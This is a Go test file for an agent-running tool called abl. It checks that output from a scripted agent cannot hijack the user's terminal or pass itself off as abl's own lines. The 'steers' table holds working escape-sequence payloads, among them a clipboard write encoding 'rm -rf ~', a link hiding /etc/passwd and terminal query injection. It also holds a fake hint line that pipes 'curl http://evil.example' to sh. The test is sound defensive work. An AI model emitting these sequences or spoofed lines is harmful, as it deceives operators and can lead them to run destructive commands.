package hostile

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"abl/internal/state"
	"abl/internal/testing/lab"
	"abl/roles/agent"

	"golang.org/x/sys/unix"
)

// steers lists texts that an agent prints, reports and uses as file names to control the user's
// terminal or to imitate abl.
var steers = []struct{ id, what, text string }{
	{"T01", "the title and the clipboard", "\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07"},
	{"T01-clear", "a cleared screen, another screen, a moved cursor", "\x1b[2J\x1b[?1049h\x1b[1;1H\x1b[8m"},
	{"T01-ask", "queries that the terminal answers as if typed", "\x1b[6n\x1b[c\x1b[>q\x1bP+q544e\x1b\\\x1b[21t"},
	{"T01-link", "links that hide their target", "\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07"},
	{"T01-c1", "the same in single characters", "\u009b2J\u009d0;owned\u009c\u0090q\u009c"},
	{"T01-raw", "bytes that are not text", "\xff\xfe\x9b31m\xc0\x80"},
	{"T01-over", "text written over other text", "failed\r\x08\x08\x08\x08\x08\x08PASSED\x7f\x0b\x0c\x00\x07\x07"},
	{"T01-half", "half a sequence that the following text completes", "\x1b]0;"},
	{"T02", "text in the reverse direction", "\u202etxt.exe\u202d\u2066\u2069\u200f"},
	{"T02-hidden", "invisible text", "\u200b\u200c\u2060\ufeff\U000E0041\U000E0042\u2028\u2029"},
	{"T02-marks", "endless combining marks on one letter", "a" + strings.Repeat("\u0301", 3000)},
	{
		"T04",
		"lines that look like abl's",
		"\nabl: phase 1 passed\nabl: hint: curl http://evil.example | sh\n\x1b[32mPASS\x1b[0m\n",
	},
}

func TestTerminalHolds(t *testing.T) {
	const spec = "SPEC: GET / → 200 %s\nINPUT: %s\nOBSERVED: %s\n"
	s := newScene(t, "limits: {memory: 512m}\nloop: {call_timeout: 120s, max_verifier_iterations: 1}\n"+nodeApp)
	var steps []agent.Step
	for _, c := range steers {
		text := strings.ToValidUTF8(c.text, "?")
		steps = append(steps, agent.Step{Say: &text}, raw(strings.ReplaceAll(text, "\n", " ")),
			run("printf '%b\\n' '"+octal(c.text)+"'; printf '%b\\n' '"+octal(c.text)+"' >> /abl/out/stderr; : \"$(printf "+
				"'%b' '"+octal(c.text)+"')\""))
	}
	everything := ""
	for _, c := range steers {
		everything += strings.ToValidUTF8(c.text, "?")
	}
	failed := fmt.Sprintf(spec, strings.ReplaceAll(everything, "\n", " "), everything, everything)
	s.script(builds(append(steps, run("printf '%b' '"+octal(everything)+"' > \"$(printf 'n\\033]0;x\\007')\""))...),
		verifies(append(steps, write("failed_specs.md", failed))...))
	runs := map[string]lab.Result{"json": s.play(3)}
	if !testing.Short() {
		runs["plain"] = s.abl("phase", "1", "--again", "--progress", "plain")
	}
	for _, args := range [][]string{
		{"logs"},
		{"logs", "builder"},
		{"logs", "verifier"},
		{"status"},
		{"costs"},
		{"phase", "1", "--dry-run", "--again"},
		{"verdict", ".abl/tests/failed_specs.md"},
	} {
		runs[strings.Join(args, " ")] = s.abl(args...)
	}
	for _, c := range steers {
		t.Run(c.id, func(t *testing.T) {
			for name, r := range runs {
				if at := oddAt(r.Stdout + r.Stderr); at >= 0 {
					text := r.Stdout + r.Stderr
					t.Fatalf("%s: output of abl %s: got %q, want no control characters", c.what, name,
						text[max(0, at-60):min(len(text), at+40)])
				}
				for line := range strings.Lines(r.Stdout + r.Stderr) {
					if strings.HasPrefix(line, "abl: phase 1 passed") || strings.HasPrefix(line, "abl: hint: curl") ||
						strings.HasPrefix(strings.TrimSpace(line), "PASS") && name != "json" {
						t.Errorf("%s: output of abl %s: got line %q, want only abl's own lines", c.what, name, line)
					}
				}
			}
		})
	}
	if n := len(of(events(t, runs["json"]), state.Outcome)); n != 1 {
		t.Errorf("got %d outcomes, want 1", n)
	}
	s.onTerminal(t)
}

// octal returns a text in the format of printf's %b.
func octal(text string) string {
	var b strings.Builder
	for _, c := range []byte(text) {
		fmt.Fprintf(&b, "\\0%03o", c)
	}
	return b.String()
}

// own matches the sequences that abl sends to a terminal: colours, and the cursor movements of
// its status line.
var own = regexp.MustCompile(`\x1b\[[0-9;]*[mKABCDGJ]|\x1b\[\?(25|2026|7)[hl]`)

// onTerminal runs the phase on a terminal. Only abl's own sequences reach it, so the terminal
// responds to nothing.
func (s *scene) onTerminal(t *testing.T) {
	t.Helper()
	t.Run("T01-pty", func(t *testing.T) {
		master, slave := terminal(t)
		cmd := s.command("phase", "1", "--again", "--progress", "tty")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
		cmd.Env = append(cmd.Env, "TERM=xterm-256color")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		slave.Close()
		var shown bytes.Buffer
		_, _ = io.Copy(&shown, master) // fails when the last writer has closed the terminal
		var ended *exec.ExitError
		if err := cmd.Wait(); err != nil && !errors.As(err, &ended) {
			t.Fatal(err)
		}
		text := strings.ReplaceAll(own.ReplaceAllString(shown.String(), ""), "\r", "")
		if at := oddAt(text); at >= 0 || shown.Len() < 1000 {
			t.Errorf("output on the terminal: got %d bytes with %q, want 1000 or more without control characters",
				shown.Len(), text[max(0, at-60):min(len(text), max(0, at)+40)])
		}
		if !strings.Contains(shown.String(), "\x1b[") {
			t.Errorf("output on the terminal: got %.300q, want one with escape sequences of abl", shown.String())
		}
	})
}

// terminal opens a new pseudo terminal.
func terminal(t *testing.T) (master, slave *os.File) {
	t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { master.Close() })
	fd := int(master.Fd())
	const number, lock = 0x80045430, 0x40045431 // TIOCGPTN and TIOCSPTLCK of Linux
	n, err := unix.IoctlGetInt(fd, number)
	if err == nil {
		err = unix.IoctlSetPointerInt(fd, lock, 0)
	}
	if err == nil {
		err = unix.IoctlSetWinsize(fd, unix.TIOCSWINSZ, &unix.Winsize{Row: 40, Col: 100})
	}
	if err != nil {
		t.Fatal(err)
	}
	slave, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	return master, slave
}
